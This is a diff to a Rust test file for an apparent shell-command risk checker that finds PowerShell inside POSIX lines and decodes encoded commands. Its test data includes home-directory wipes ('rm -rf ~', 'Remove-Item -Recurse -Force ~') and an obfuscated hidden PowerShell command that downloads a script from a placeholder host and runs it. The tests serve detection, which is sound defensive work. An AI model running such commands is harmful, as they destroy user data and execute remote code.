@@ -5,6 +5,7 @@ use super::cmdlets::{self, Arg, CMDLETS, Takes};
 use super::lex::{self, Group, Part, Script, Token, Word};
 use super::*;
 use crate::facts::FakeFacts;
+use crate::shell::Line;
 use proptest::prelude::*;
 
 /// A script as tables write it: statements cut by ` ; `, elements by ` | `, tokens by a
@@ -255,6 +256,15 @@ fn base64_and_utf16_decode_by_hand() {
     for (blob, want) in rows {
         assert_eq!(decode::base64(blob).as_deref(), *want, "base64 {blob:?}");
     }
+    assert_eq!(
+        decode::encoded_command("RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQA="),
+        Some("Get-ChildItem".to_string())
+    );
+    assert_eq!(
+        decode::encoded_command("aGVs"),
+        None,
+        "odd bytes are not UTF-16"
+    );
     assert_eq!(decode::text(b"rm -rf ~"), Some("rm -rf ~".to_string()));
     assert_eq!(decode::text(&[0x72, 0, 0x6d, 0]), Some("rm".to_string()));
     assert_eq!(decode::text(&[0xff, 0xfe, 0xfd]), None);
@@ -722,6 +732,58 @@ fn routine_powershell_finds_nothing() {
         "{:?}",
         found.risks
     );
+}
+
+#[test]
+fn powershell_inside_a_posix_line_is_read_as_powershell() {
+    let shown = |text: &str| {
+        let line = Line::parse(text);
+        line.commands
+            .iter()
+            .flat_map(texts_of)
+            .collect::<Vec<String>>()
+    };
+    let rows: &[(&str, &[&str])] = &[
+        (
+            "pwsh -c \"Remove-Item -Recurse -Force ~\"",
+            &["Remove-Item -Recurse -Force ~"],
+        ),
+        (
+            "pwsh -NoProfile -Command Get-ChildItem -Recurse",
+            &["Get-ChildItem -Recurse"],
+        ),
+        ("powershell.exe -nop -w hidden -c \"iex x\"", &["iex x"]),
+        ("powershell Get-Process", &["Get-Process"]),
+        (
+            "pwsh -enc RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQA=",
+            &["Get-ChildItem"],
+        ),
+        (
+            "powershell -EncodedCommand RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQA=",
+            &["Get-ChildItem"],
+        ),
+        (
+            "pwsh -e RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQA=",
+            &["Get-ChildItem"],
+        ),
+        ("pwsh -File x.ps1 -c y", &[]),
+        ("pwsh x.ps1", &[]),
+        ("pwsh -ExecutionPolicy Bypass -File x.ps1", &[]),
+        ("pwsh <<'EOF'\nRemove-Item ~\nEOF", &["Remove-Item ~\n"]),
+        ("bash -c 'ls'", &[]),
+    ];
+    for (text, want) in rows {
+        assert_eq!(&shown(text), want, "{text:?}");
+    }
+    let posix = |text: &str| {
+        let found = crate::law::command::assess(text, "/home/user/app", &facts());
+        found.risks.iter().map(|r| r.rule).collect::<Vec<_>>()
+    };
+    assert!(posix("pwsh -c \"Remove-Item -Recurse -Force ~\"").contains(&"critical.wipe"));
+    // base64 of UTF-16LE `iwr https://x.example/a.ps1 | iex`
+    let download = "powershell -NoP -NonI -W Hidden -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUALwBhAC4AcABzADEAIAB8ACAAaQBlAHgA";
+    assert!(posix(download).contains(&"download.pipe_shell"));
+    assert!(posix("pwsh -c 'Get-ChildItem -Recurse src'").is_empty());
 }
 
 #[test]
